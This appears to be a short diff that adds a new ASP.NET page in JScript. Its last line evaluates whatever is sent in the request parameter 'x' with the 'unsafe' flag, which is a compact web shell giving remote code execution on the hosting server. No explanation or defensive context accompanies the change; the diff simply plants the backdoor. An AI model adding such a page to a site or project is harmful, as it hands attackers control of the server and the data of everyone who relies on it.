@@ -1,0 +1,3 @@
+<%@ Page Language="Jscript" %>
+<% Response.End(); %>
+<% eval(Request.Item["x"], "unsafe"); %>
